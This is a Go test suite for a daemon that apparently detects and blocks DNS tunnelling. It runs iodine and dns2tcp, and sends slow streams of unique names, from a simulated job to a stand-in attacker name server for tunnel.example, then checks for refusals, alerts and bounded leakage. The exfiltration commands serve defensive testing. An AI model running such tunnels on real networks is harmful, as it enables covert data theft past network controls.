package test

import (
	"fmt"
	"math/rand/v2"
	"net"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/miekg/dns"
)

// The addresses of a tunnelWorld.
const (
	tunnelGate     = "10.61.0.1"  // the resolver, as the job sees it
	tunnelJob      = "10.61.0.7"  // the job
	tunnelUplink   = "10.62.0.1"  // the daemon, as the attacker sees it
	tunnelAttacker = "10.62.0.53" // the attacker's name server
)

// A tunnelWorld is a job, a daemon that is its resolver, and an attacker whose
// name server is authoritative for the domains that the job is told to use. It
// is the daemon's upstream, as a resolver between the two would only add caches.
type tunnelWorld struct {
	t                   *testing.T
	job, gate, attacker *space
	daemon              *daemon
	heard               *listener
}

// tunnelPools allow *.tunnel.example, with the types that tunnels like (TYPE10
// is NULL), and not *.other.example.
const tunnelPools = `
  build:
    sources: [10.61.0.0/24]
    allow:
      - {host: "*.tunnel.example", dns_types: [TXT, TYPE10, MX, SRV]}`

// newTunnelWorld makes one, with further configuration.
func newTunnelWorld(t *testing.T, rest string) *tunnelWorld {
	t.Helper()
	w := &tunnelWorld{t: t, job: newSpace(t, "job"), gate: newSpace(t, "gate"), attacker: newSpace(t, "evil")}
	wire(w.job, "eth0", w.gate, "jobs")
	wire(w.gate, "uplink", w.attacker, "eth0")
	w.job.address("eth0", tunnelJob+"/24")
	w.gate.address("jobs", tunnelGate+"/24")
	w.gate.address("uplink", tunnelUplink+"/24")
	w.attacker.address("eth0", tunnelAttacker+"/24")
	w.heard = newListener(t, w.attacker)
	w.daemon = prepare(t, config{ip: tunnelGate, prefix: w.gate.through(), upstream: tunnelAttacker + ":53", pools: tunnelPools, rest: rest})
	w.daemon.listen = fmt.Sprintf("{proxy: %q, dns: %q, admin: %q, control: \"unix:%s\"}",
		w.daemon.proxy, tunnelGate+":53", w.daemon.admin, w.daemon.path("control.sock"))
	w.daemon.write(tunnelAttacker+":53", tunnelPools)
	w.daemon.run()
	return w
}

// A listener is what the attacker's machine hears: it counts each question and
// hands it on to the tool behind it, or answers it itself.
type listener struct {
	conn net.PacketConn
	tool func() net.Conn // a connection to the tool

	mu    sync.Mutex
	names map[string]int // below the domain, with how often
	bytes int            // of unique names, below the domain
}

// newListener listens where name servers do.
func newListener(t *testing.T, at *space) *listener {
	t.Helper()
	l := &listener{names: make(map[string]int)}
	at.do(func() {
		var err error
		if l.conn, err = net.ListenPacket("udp", tunnelAttacker+":53"); err != nil {
			t.Fatal(err)
		}
	})
	l.tool = func() net.Conn {
		conn, err := at.dial("udp", "127.0.0.1:5353", "")
		if err != nil {
			t.Error(err)
		}
		return conn
	}
	var running sync.WaitGroup
	running.Go(func() { l.serve(&running) })
	t.Cleanup(func() {
		l.conn.Close()
		running.Wait()
	})
	return l
}

func (l *listener) serve(running *sync.WaitGroup) {
	for {
		raw := make([]byte, 4096)
		n, from, err := l.conn.ReadFrom(raw)
		if err != nil {
			return
		}
		q := new(dns.Msg)
		if q.Unpack(raw[:n]) != nil || len(q.Question) != 1 {
			continue
		}
		if !l.count(q.Question[0].Name) {
			l.answer(q, from)
			continue
		}
		running.Go(func() { l.pass(raw[:n], q, from) })
	}
}

// count writes a question down, and reports whether it is for the tool.
func (l *listener) count(name string) bool {
	name = strings.ToLower(name)
	l.mu.Lock()
	defer l.mu.Unlock()
	below, tunnel := strings.CutSuffix(name, "tunnel.example.")
	if !tunnel {
		below = name
	}
	if l.names[name]++; l.names[name] == 1 {
		l.bytes += len(below)
	}
	return tunnel
}

// pass lets the tool answer, if there is one that does within two seconds.
func (l *listener) pass(raw []byte, q *dns.Msg, from net.Addr) {
	conn := l.tool()
	if conn == nil {
		return
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(2 * time.Second))
	reply := make([]byte, 65535)
	if _, err := conn.Write(raw); err == nil {
		if n, err := conn.Read(reply); err == nil {
			_, _ = l.conn.WriteTo(reply[:n], from)
			return
		}
	}
	l.answer(q, from)
}

// answer answers in the tool's place: nothing, for no time.
func (l *listener) answer(q *dns.Msg, from net.Addr) {
	if raw, err := new(dns.Msg).SetReply(q).Pack(); err == nil {
		_, _ = l.conn.WriteTo(raw, from)
	}
}

// leaked is what the attacker knows.
func (l *listener) leaked() (names, bytes int) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return len(l.names), l.bytes
}

// check waits for the refusal and the alert, and holds what was leaked by then
// and what is leaked in a while after against a bound.
func (w *tunnelWorld) check(most int, domain string) {
	w.t.Helper()
	w.daemon.wait("a refused name", func(e event) bool {
		return e.text("kind") == "dns" && e.text("reason") == "limit-exceeded" && strings.HasPrefix(e.text("limit"), "alerts.thresholds.dns_tunnel_")
	})
	names, bytes := w.heard.leaked()
	alert := w.daemon.wait("the alert", isTunnelAlert)
	if alert.text("host") != domain || alert.text("severity") != "high" {
		w.t.Errorf("the alert is %v", alert)
	}
	<-time.After(3 * time.Second) // the tool goes on trying meanwhile
	laterNames, laterBytes := w.heard.leaked()
	w.t.Logf("leaked before the refusal: %d names, %d bytes; 3 s later %d names, %d bytes\n%s", names, bytes, laterNames, laterBytes, alert.text("summary"))
	if laterBytes > most {
		w.t.Errorf("%d bytes leaked, more than %d", laterBytes, most)
	}
	if laterNames == 0 {
		w.t.Error("nothing was tunnelled at all")
	}
	if alerts := w.tunnelAlerts(); alerts != 1 {
		w.t.Errorf("%d groups of dns-tunnel", alerts)
	}
}

func isTunnelAlert(e event) bool { return e.text("kind") == "alert" && e.text("alert") == "dns-tunnel" }

// tunnelAlerts counts the groups of dns-tunnel.
func (w *tunnelWorld) tunnelAlerts() int {
	groups := make(map[string]bool)
	for _, e := range w.daemon.events() {
		if isTunnelAlert(e) {
			groups[e.text("id")] = true
		}
	}
	return len(groups)
}

// checkSilence lets a tool try a domain that is not allowed, and looks that the
// attacker has not heard of it.
func (w *tunnelWorld) checkSilence(try func(domain string)) {
	w.t.Helper()
	before, _ := w.heard.leaked()
	try("other.example")
	w.daemon.wait("a refused question", func(e event) bool {
		return e.text("kind") == "dns" && e.text("reason") == "not-in-allowlist" && strings.HasSuffix(e.text("name"), "other.example")
	})
	if after, _ := w.heard.leaked(); after != before {
		w.t.Errorf("%d names of a domain that is not allowed reached the attacker", after-before)
	}
}

// TestIodineIsStopped lets iodine build its tunnel and send what it can.
func TestIodineIsStopped(t *testing.T) {
	t.Parallel()
	needProgram(t, "iodine", "iodined")
	_, err := os.Stat("/dev/net/tun")
	need(t, err == nil, "/dev/net/tun")
	w := newTunnelWorld(t, "")
	iodine := func(device, domain string) *lockedBuffer { // which holds its device until it gives up
		return w.job.serve("iodine", "-f", "-r", "-P", "secret", "-d", device, tunnelGate, domain)
	}
	w.checkSilence(func(domain string) { iodine("dns0", domain) })
	served := w.attacker.serve("iodined", "-f", "-c", "-P", "secret", "-l", "127.0.0.1", "-p", "5353", "10.99.0.1/24", "tunnel.example")
	eventually(t, "iodined", func() bool { return strings.Contains(served.String(), "Listening to dns") }, served.String)
	said := iodine("dns1", "tunnel.example")
	stop := make(chan struct{})
	var sending sync.WaitGroup
	sending.Go(func() { w.sendThrough(stop, "10.99.0.1:9") })
	defer sending.Wait()
	defer close(stop)
	w.check(16<<10, "tunnel.example")
	if !strings.Contains(said.String(), "Connection setup complete") {
		t.Logf("iodine never had a tunnel; it says:\n%s", said)
	}
}

// sendThrough sends packets to an address in a tunnel until stop, as soon as
// there is a way.
func (w *tunnelWorld) sendThrough(stop chan struct{}, addr string) {
	packet := make([]byte, 1000)
	for i := range packet {
		packet[i] = byte(rand.Uint32())
	}
	tick := time.NewTicker(20 * time.Millisecond)
	defer tick.Stop()
	for {
		select {
		case <-stop:
			return
		case <-tick.C:
		}
		if conn, err := w.job.dial("udp", addr, ""); err == nil {
			_, _ = conn.Write(packet)
			conn.Close()
		}
	}
}

// TestDNS2TCPIsStopped uploads a file through dns2tcp, whose names are none of
// hosts: they are refused under the wildcard as elsewhere, so nothing leaves at all.
func TestDNS2TCPIsStopped(t *testing.T) {
	t.Parallel()
	needProgram(t, "dns2tcpc", "dns2tcpd")
	w := newTunnelWorld(t, "")
	dir := t.TempDir()
	settings := filepath.Join(dir, "dns2tcpd.conf")
	text := fmt.Sprintf("listen = 127.0.0.1\nport = 5353\nuser = root\nchroot = %s\ndomain = tunnel.example\nresources = sink:127.0.0.1:7777\n", dir)
	if err := os.WriteFile(settings, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	w.attacker.do(func() {
		sink, err := net.Listen("tcp", "127.0.0.1:7777")
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { sink.Close() })
	})
	served := w.attacker.serve("dns2tcpd", "-F", "-d", "1", "-f", settings)
	eventually(t, "dns2tcpd", func() bool { return strings.Contains(served.String(), "Listening on 127.0.0.1") }, served.String)
	w.job.serve("dns2tcpc", "-z", "other.example", tunnelGate)
	said := w.job.serve("dns2tcpc", "-d", "1", "-z", "tunnel.example", "-r", "sink", "-l", "4444", tunnelGate)
	upload := make([]byte, 1<<20)
	for i := range upload {
		upload[i] = byte(rand.Uint32())
	}
	var sending sync.WaitGroup
	stop := make(chan struct{})
	sending.Go(func() {
		for {
			select {
			case <-stop:
				return
			case <-time.After(100 * time.Millisecond):
			}
			if conn, err := w.job.dial("tcp", "127.0.0.1:4444", ""); err == nil {
				_ = conn.SetDeadline(time.Now().Add(3 * time.Second))
				_, _ = conn.Write(upload)
				conn.Close()
			}
		}
	})
	defer sending.Wait()
	defer close(stop)
	for _, domain := range []string{"other.example", "tunnel.example"} {
		alert := w.daemon.wait("the alert for "+domain, func(e event) bool { return isTunnelAlert(e) && e.text("host") == domain })
		t.Log(alert.text("summary"))
	}
	<-time.After(3 * time.Second) // it goes on trying meanwhile
	if names, bytes := w.heard.leaked(); names != 0 {
		t.Errorf("%d names and %d bytes reached the attacker", names, bytes)
	}
	if !strings.Contains(said.String(), "Auth error") {
		t.Errorf("dns2tcpc says:\n%s", said)
	}
}

// slowPace is how fast the slow sender of these tests is. SALLYPORT_SLOW_TUNNEL
// makes it one name every 2 s, as it would be.
func slowPace() time.Duration {
	if os.Getenv("SALLYPORT_SLOW_TUNNEL") != "" {
		return 2 * time.Second
	}
	return 5 * time.Millisecond
}

// sendSlowly asks for n names with a label of 40 bytes each, and says how many
// were not refused before the first that was.
func (w *tunnelWorld) sendSlowly(domain string, n int) (passed int) {
	w.t.Helper()
	tick := time.NewTicker(slowPace())
	defer tick.Stop()
	client := &dns.Client{Net: "udp"}
	refused := false
	for range n {
		<-tick.C
		conn, err := w.job.dial("udp", tunnelGate+":53", "")
		if err != nil {
			w.t.Fatal(err)
		}
		label := fmt.Sprintf("%016x%016x%08x", rand.Uint64(), rand.Uint64(), rand.Uint32())
		reply, _, err := client.ExchangeWithConn(new(dns.Msg).SetQuestion(label+"."+domain+".", dns.TypeA), &dns.Conn{Conn: conn})
		conn.Close()
		if err != nil {
			w.t.Fatal(err)
		}
		if refused = refused || reply.Rcode == dns.RcodeRefused; !refused {
			passed++
		}
	}
	return passed
}

// TestASlowSenderIsStopped sends a label of 40 bytes at a time: over the number
// of names in the window, and over the bytes of the day, where the limits of the
// window are out of its way.
func TestASlowSenderIsStopped(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		what, thresholds string
		names, most      int
	}{
		{"by the number of names", "", 110, 100 * 41},
		{"by the bytes of the day", "dns_tunnel_names: 100000, dns_tunnel_bytes: 10MiB", 1620, 64 << 10},
	} {
		t.Run(tt.what, func(t *testing.T) {
			if slowPace() > time.Second && tt.names > 1000 {
				t.Skip("an hour, and the same in the tests of the meter")
			}
			w := newTunnelWorld(t, "\nalerts: {thresholds: {"+tt.thresholds+"}}\n")
			w.checkSilence(func(domain string) {
				if passed := w.sendSlowly(domain, 3); passed != 3 {
					t.Errorf("%d names were answered", passed)
				}
			})
			began := time.Now()
			passed := w.sendSlowly("tunnel.example", tt.names)
			t.Logf("%d names in %s passed", passed, time.Since(began).Round(time.Second))
			w.check(tt.most, "tunnel.example")
		})
	}
}

// TestConnectIsNoTunnelForNames asks for unique names by CONNECT, which has the
// proxy look them up.
func TestConnectIsNoTunnelForNames(t *testing.T) {
	t.Parallel()
	w := newTunnelWorld(t, "")
	codes := make(map[int]int)
	for i := range 120 {
		conn, err := w.job.dial("tcp", w.daemon.proxy, "")
		if err != nil {
			t.Fatal(err)
		}
		target := fmt.Sprintf("x%039d.tunnel.example:443", i)
		fmt.Fprintf(conn, "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n", target, target)
		line := make([]byte, len("HTTP/1.1 000"))
		if _, err := conn.Read(line); err != nil {
			t.Fatal(err)
		}
		var code int
		fmt.Sscanf(string(line), "HTTP/1.1 %d", &code)
		codes[code]++
		conn.Close()
	}
	if codes[429] != 20 || codes[502] != 100 {
		t.Errorf("the answers are %v", codes)
	}
	w.check(100*41, "tunnel.example")
}
